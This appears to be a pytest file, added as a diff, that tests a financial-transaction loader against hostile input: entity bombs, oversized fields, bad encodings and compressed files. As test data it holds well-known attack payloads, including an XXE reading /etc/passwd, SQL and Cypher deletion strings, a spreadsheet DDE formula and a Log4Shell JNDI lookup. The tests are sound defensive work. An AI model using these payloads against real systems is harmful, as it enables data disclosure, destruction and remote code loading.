@@ -1,0 +1,147 @@
+"""Hostile input is harmless: entity bombs, external entities, huge fields, bad encodings."""
+
+from __future__ import annotations
+
+import gzip
+import io
+
+import pytest
+
+from engine.errors import InputError
+from loaders.base import MAX_FIELD_BYTES
+from loaders.quarantine import export_rejected
+from loaders.registry import load_file
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<report><transaction><transactionnumber>&lol3;</transactionnumber></transaction></report>
+"""
+XXE = """<?xml version="1.0"?>
+<!DOCTYPE report [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>
+<Ntry><AcctSvcrRef>&secret;</AcctSvcrRef></Ntry></Stmt></BkToCstmrStmt></Document>
+"""
+TX_HEADER = "tx_id,ts,src_account,dst_account,amount,currency\n"
+
+
+@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE])
+def test_entity_declarations_are_refused_before_parsing(write, document):
+    with pytest.raises(InputError, match="DOCTYPE"):
+        load_file(write("evil.xml", document), batch_id="b")
+
+
+def test_forced_format_still_refuses_entities(write):
+    with pytest.raises(InputError, match="DOCTYPE"):
+        load_file(write("evil.txt", BILLION_LAUGHS), format="goaml", batch_id="b")
+
+
+def test_deep_nesting_and_huge_text_nodes_stop_with_an_input_error(write):
+    deep = "<report>" + "<a>" * 5000 + "</a>" * 5000 + "</report>"
+    with pytest.raises(InputError, match="not well-formed"):
+        load_file(write("deep.xml", deep), batch_id="b")
+    huge = "<report><transaction><transactionnumber>" + "x" * 11_000_000
+    huge += "</transactionnumber></transaction></report>"
+    with pytest.raises(InputError, match=r"huge\.xml"):
+        load_file(write("huge.xml", huge), batch_id="b")
+
+
+def test_long_xml_field_is_quarantined_not_loaded(write):
+    xml = (
+        "<report><transaction><transactionnumber>" + "x" * (MAX_FIELD_BYTES + 1) +
+        "</transactionnumber><date_transaction>2024-01-01</date_transaction>"
+        "<amount_local>1</amount_local><t_from><from_account><iban>A</iban></from_account>"
+        "</t_from><t_to><to_account><iban>B</iban></to_account></t_to></transaction></report>"
+    )  # fmt: skip
+    result = load_file(write("long.xml", xml), batch_id="b")
+    assert result.tables["transactions"].num_rows == 0
+    (bad,) = result.rejected.to_pylist()
+    assert (bad["field"], bad["reason"]) == ("tx_id", "value too long")
+    assert len(bad["value"]) == 200  # truncated in the quarantine
+
+
+def test_huge_csv_field_and_huge_line(write):
+    long_id = "x" * (MAX_FIELD_BYTES + 10)
+    text = (
+        TX_HEADER + f"{long_id},2024-01-01T00:00:00Z,A,B,1,EUR\nt2,2024-01-01T00:00:00Z,A,B,1,EUR\n"
+    )
+    result = load_file(write("transactions.csv", text), batch_id="b")
+    assert result.tables["transactions"]["tx_id"].to_pylist() == ["t2"]
+    assert result.rejected["reason"].to_pylist() == ["value too long"]
+    line = "t1,2024-01-01T00:00:00Z,A," + "B" * (9 << 20) + ",1,EUR\n"
+    big = load_file(write("big/transactions.csv", TX_HEADER + line), batch_id="b")
+    assert big.rejected.select(["row", "field", "reason"]).to_pylist() == [
+        {"row": 1, "field": "dst_account", "reason": "value too long"}
+    ]
+
+
+def test_injection_looking_names_are_stored_verbatim_and_exported_safely(write):
+    names = [
+        "Robert'); DROP TABLE parties;--",
+        "MATCH (n) DETACH DELETE n",
+        "=cmd|' /C calc'!A0",
+        "${jndi:ldap://x/a}",
+    ]
+    text = "party_id,name\n" + "".join(f'p{i},"{n}"\n' for i, n in enumerate(names))
+    result = load_file(write("parties.csv", text), batch_id="b")
+    assert result.tables["parties"]["name"].to_pylist() == names
+    # The quarantine export never lets a spreadsheet evaluate a rejected cell.
+    bad = load_file(
+        write("transactions.csv", TX_HEADER + "=1+1,2024-01-01T00:00:00Z,A,B,x,EUR\n"),
+        batch_id="b",
+    )
+    out = io.StringIO()
+    export_rejected(bad.rejected, out)
+    assert "'x" not in out.getvalue() and '"x"' in out.getvalue()
+
+
+def test_latin1_file_without_mapping_is_read_as_latin1_with_a_note(write):
+    text = "party_id,name,city\np1,José Müller,Zürich\n"
+    result = load_file(write("parties.csv", text.encode("latin-1")), batch_id="b")
+    assert result.tables["parties"]["name"].to_pylist() == ["José Müller"]
+    assert any("Latin-1" in note for note in result.notes)
+
+
+def test_declared_utf8_with_bad_bytes_quarantines_those_rows(write):
+    data = "party_id,name\np1,Ana\np2,Jos\xe9\n".encode("latin-1")
+    mapping = write("m.toml", "encoding = 'utf-8'\n")
+    result = load_file(write("parties.csv", data), mapping=mapping, batch_id="b")
+    assert result.tables["parties"]["name"].to_pylist() == ["Ana"]
+    (bad,) = result.rejected.to_pylist()
+    assert (bad["row"], bad["field"]) == (2, "name")
+    assert bad["reason"].startswith("not valid UTF-8")
+
+
+def test_utf16_and_binary_files_are_refused(write):
+    with pytest.raises(InputError, match="binary"):
+        load_file(write("parties.csv", "party_id,name\n".encode("utf-16")), batch_id="b")
+    with pytest.raises(InputError, match="Parquet"):
+        load_file(write("parties.parquet", b"PAR1 not really"), batch_id="b")
+
+
+def test_compressed_csv_and_jsonl(write):
+    data = gzip.compress((TX_HEADER + "t1,2024-01-01T00:00:00Z,A,B,1,EUR\n").encode())
+    assert (
+        load_file(write("transactions.csv.gz", data), batch_id="b").tables["transactions"].num_rows
+        == 1
+    )
+    lines = (
+        '{"tx_id": "t1", "ts": "2024-01-01T00:00:00Z", "src_account": "A", "dst_account": "B",'
+        ' "amount": 5, "currency": "EUR", "reference": {"nested": [1, 2]}}\n'
+        "not json\n"
+        "[1, 2]\n"
+        "\n"
+        '{"tx_id": "t2", "ts": "2024-01-01T00:00:00Z", "src_account": "A", "dst_account": "B",'
+        ' "amount": true, "currency": "EUR"}\n'
+    )
+    result = load_file(write("transactions.jsonl", lines), batch_id="b")
+    (tx,) = result.tables["transactions"].to_pylist()
+    assert (tx["amount"], tx["reference"]) == (5.0, '{"nested": [1, 2]}')
+    reasons = result.rejected.sort_by("row")["reason"].to_pylist()
+    assert reasons[0].startswith("invalid JSON")
+    assert reasons[1:] == ["not a JSON object", "not a number"]
+    assert result.rejected.sort_by("row")["row"].to_pylist() == [2, 3, 4]
